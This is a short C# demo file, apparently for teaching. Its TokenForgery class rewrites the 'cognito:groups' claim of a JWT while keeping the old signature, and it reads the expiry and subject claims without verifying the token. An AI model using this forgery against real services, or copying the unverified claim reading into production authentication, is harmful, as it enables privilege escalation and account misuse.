using System;
using System.Buffers.Text;
using System.Text;
using System.Text.Json.Nodes;

namespace DevTool.Demo;

/// <summary>Forges a token as an attacker would, and reads claims without verifying them.</summary>
internal static class TokenForgery
{
    /// <summary>Rewrites the groups of a token and leaves its signature as it was.</summary>
    /// <param name="group">The group to claim.</param>
    public static string ClaimGroup(string token, string group)
    {
        string[] parts = token.Split('.');
        JsonObject claims = Claims(token);
        claims["cognito:groups"] = new JsonArray(group);
        string payload = Base64Url.EncodeToString(Encoding.UTF8.GetBytes(claims.ToJsonString()));
        return $"{parts[0]}.{payload}.{parts[2]}";
    }

    /// <summary>When a token expires, as its unverified claims say.</summary>
    public static DateTimeOffset Expiry(string token) => DateTimeOffset.FromUnixTimeSeconds(Claims(token)["exp"]!.GetValue<long>());

    /// <summary>The subject of a token, as its unverified claims say.</summary>
    /// <returns>The user's id.</returns>
    public static string Subject(string token) => Claims(token)["sub"]!.GetValue<string>();

    private static JsonObject Claims(string token) => JsonNode.Parse(Base64Url.DecodeFromChars(token.Split('.')[1]))!.AsObject();
}
